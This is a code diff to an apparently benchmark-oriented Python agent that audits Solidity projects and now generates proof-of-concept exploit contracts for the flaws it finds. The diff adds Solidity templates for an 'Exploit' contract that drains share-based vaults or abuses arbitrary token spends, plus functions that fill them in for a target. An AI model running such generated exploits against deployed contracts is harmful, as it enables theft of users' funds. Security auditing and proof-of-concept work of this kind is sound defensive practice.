@@ -5,7 +5,7 @@ The agent carries a library of building blocks that it has written before, which
 It recognises the names that a task asks for, copies those blocks and all they use out of its own source, and runs
 the task's examples on them. What contradicts an example, or is not in the library, it leaves out.
 A working directory with Solidity files in it is audited instead, and what the audit finds it can prove: where a task
-asks for that it writes the exploit or the patch.
+asks for that it writes the exploit or the patch, and where findings may bring a proof of concept it adds one.
 """
 
 import argparse
@@ -1300,6 +1300,12 @@ class ShareAudit:
                 return True
         return False
 
+    def counts(self, function, supplies, sign):
+        """Whether a function, or what it calls, changes the number of shares by this sign."""
+        statements = (s.tokens for f in self.view.reached(function) for s in all_statements(f.body))
+        made = [each for tokens in statements if (each := assignment(tokens))]
+        return any(name in supplies and found == sign for name, found, _ in made)
+
     def paid_out(self, function, debt):
         """Return the tokens in which a function pays out what a debt amounts to."""
         amounts, out = {debt}, set()
@@ -1342,16 +1348,24 @@ def token_root(tokens):
 # -- audits: the report -------------------------------------------------------------------------------------------
 
 
-def audit(folder):
-    """Return the vulnerabilities in a folder's Solidity files, each a dict as a report has it."""
+def audit(folder, proves=False):
+    """Return the vulnerabilities in a folder's Solidity files, each as a report has it, with proofs where asked."""
     project, found = Project(folder), {}
     for contract in project.leaves():
         view = View(project, contract)
         for entry, pulls in SpendAudit(view).findings():
-            found.setdefault((entry.file, entry.line, "spend"), report_spend(entry, pulls))
+            poc = spend_exploit(view, entry, roles_of(view, entry), [POC_ENTRY], folder) if proves else ""
+            found.setdefault((entry.file, entry.line, "spend"), with_poc(report_spend(entry, pulls), poc))
         for valuation, debt, grows, paid in ShareAudit(view).findings():
-            found.setdefault((valuation.file, valuation.line, debt), report_share(valuation, debt, grows, paid))
+            poc = share_exploit(view, valuation, folder) if proves else ""
+            finding = with_poc(report_share(valuation, debt, grows, paid), poc)
+            found.setdefault((valuation.file, valuation.line, debt), finding)
     return list(found.values())
+
+
+def with_poc(finding, poc):
+    """Return a finding, with its proof of concept if there is one."""
+    return {**finding, "poc": poc} if poc else finding
 
 
 def report_spend(entry, pulls):
@@ -1423,6 +1437,52 @@ ENTRY = """\
                     if (i != j && j != k && k != i) try this.spend(given[i], given[j], given[k]) {{}} catch {{}}
     }}
 """
+POC_ENTRY = """\
+    function attack(uint256, address[] calldata contracts, address[] calldata tokens, address[] calldata users)
+        external
+    {{
+        for (uint256 i = 0; i < contracts.length; i++)
+            for (uint256 j = 0; j < tokens.length; j++)
+                for (uint256 k = 0; k < users.length; k++)
+                    try this.spend(contracts[i], tokens[j], users[k]) {{}} catch {{}}
+    }}
+""".format()
+SHARES = """\
+// SPDX-License-Identifier: MIT
+{pragma}
+
+interface Token {{
+    function balanceOf(address account) external view returns (uint256);
+    function approve(address spender, uint256 amount) external returns (bool);
+}}
+
+interface Faulty {{
+{declared}
+}}
+
+/// Holds shares of {contract} from the first day on, and leaves on the second, when a debt has made them dearer.
+contract Exploit {{
+    function attack(uint256 round, address[] calldata contracts, address[] calldata tokens, address[] calldata)
+        external
+    {{
+        for (uint256 i = 0; i < contracts.length; i++)
+            if (round > 0) leave(contracts[i]);
+            else for (uint256 j = 0; j < tokens.length; j++) try this.enter(contracts[i], tokens[j]) {{}} catch {{}}
+    }}
+
+    function enter(address faulty, address token) external {{
+        uint256 amount = Token(token).balanceOf(address(this));
+        Token(token).approve(faulty, amount);
+        Faulty(faulty).{entered}(amount);
+    }}
+
+    function leave(address faulty) private {{
+        uint256 shares;
+        try Token(faulty).balanceOf(address(this)) returns (uint256 held) {{ shares = held; }} catch {{ return; }}
+{left}
+    }}
+}}
+"""
 SIMPLE_TYPE = re.compile(r"(?:u?int\d*|bool|bytes\d+|address(?: payable)?)\Z")
 
 
@@ -1434,21 +1494,58 @@ def write_exploit(task, folder):
     project = Project(folder)
     entries = [entry_function(*declared, project) for declared in re.findall(r"`(\w+)\(([^`]*)\)`", task)]
     for view, entry, roles in spends(project) if entries and all(entries) else ():
-        kinds = [plain_type(kind, project) for kind, _ in entry.params]
-        if PAYEE in roles.values() and all(kinds):
-            pragma = re.search(r"pragma solidity[^;]*;", (folder / entry.file).read_text(encoding="utf-8"))
-            arguments = [
-                argument_for(roles.get(name), kind) for (_, name), kind in zip(entry.params, kinds, strict=True)
-            ]
-            return EXPLOIT.format(
-                pragma=pragma[0] if pragma else "pragma solidity *;",
-                called=entry.name,
-                contract=view.contract.name,
-                kinds=", ".join(kinds),
-                arguments=", ".join(arguments),
-                entries="\n".join(entries),
-            )
+        exploit = spend_exploit(view, entry, roles, entries, folder)
+        if exploit:
+            return exploit
     return ""
+
+
+def spend_exploit(view, entry, roles, entries, folder):
+    """Return a contract that spends through an entry, "" where that could not gain or cannot be called simply."""
+    kinds = [plain_type(kind, view.project) for kind, _ in entry.params]
+    if PAYEE not in roles.values() or not all(kinds):
+        return ""
+    arguments = [argument_for(roles.get(name), kind) for (_, name), kind in zip(entry.params, kinds, strict=True)]
+    return EXPLOIT.format(
+        pragma=pragma_of(folder / entry.file),
+        called=entry.name,
+        contract=view.contract.name,
+        kinds=", ".join(kinds),
+        arguments=", ".join(arguments),
+        entries="\n".join(entries),
+    )
+
+
+def share_exploit(view, valuation, folder):
+    """Return a contract that takes shares and leaves with more than it brought, "" where it cannot come or go."""
+    audit = ShareAudit(view)
+    supplies, entries = audit.supplies(valuation), view.entries()
+    enters = [e for e in entries if takes_amount(e) and audit.counts(e, supplies, "+=")]
+    leaves = [e for e in entries if takes_amount(e) and audit.counts(e, supplies, "-=")]
+    after = [e for e in entries if not e.params and not e.is_view]
+    if not enters or not leaves:
+        return ""
+    calls = [(e, "shares" if e.params else "") for e in (*leaves, *after)]
+    return SHARES.format(
+        pragma=pragma_of(folder / valuation.file),
+        contract=view.contract.name,
+        declared="\n".join(
+            f"    function {e.name}({'uint256' if e.params else ''}) external;" for e in (enters[0], *leaves, *after)
+        ),
+        entered=enters[0].name,
+        left="\n".join(f"        try Faulty(faulty).{e.name}({given}) {{}} catch {{}}" for e, given in calls),
+    )
+
+
+def takes_amount(entry):
+    """Whether an entry takes one number and nothing else."""
+    return [kind for kind, _ in entry.params] in (["uint256"], ["uint"])
+
+
+def pragma_of(path):
+    """Return the pragma of a file."""
+    pragma = re.search(r"pragma solidity[^;]*;", path.read_text(encoding="utf-8"))
+    return pragma[0] if pragma else "pragma solidity *;"
 
 
 def spends(project):
@@ -1456,8 +1553,13 @@ def spends(project):
     for contract in project.leaves():
         view = View(project, contract)
         for entry, _ in SpendAudit(view).findings():
-            places = [(name, place) for _, name in entry.params if name for place in (TOKEN, AMOUNT, PAYEE, PAYER)]
-            yield view, entry, {name: place for name, place in places if SpendAudit(view, place).reaches(entry, name)}
+            yield view, entry, roles_of(view, entry)
+
+
+def roles_of(view, entry):
+    """Return where in a transfer each parameter of an entry ends."""
+    places = [(name, place) for _, name in entry.params if name for place in (TOKEN, AMOUNT, PAYEE, PAYER)]
+    return {name: place for name, place in places if SpendAudit(view, place).reaches(entry, name)}
 
 
 def entry_function(name, parameters, project):
@@ -1555,7 +1657,7 @@ def answer(task, folder):
         return write_exploit(task, folder)
     if "Print a unified diff" in task:
         return write_patch(folder)
-    return json.dumps({"vulnerabilities": audit(folder)}, indent=2)
+    return json.dumps({"vulnerabilities": audit(folder, "function attack(uint256 round" in task)}, indent=2)
 
 
 def main():
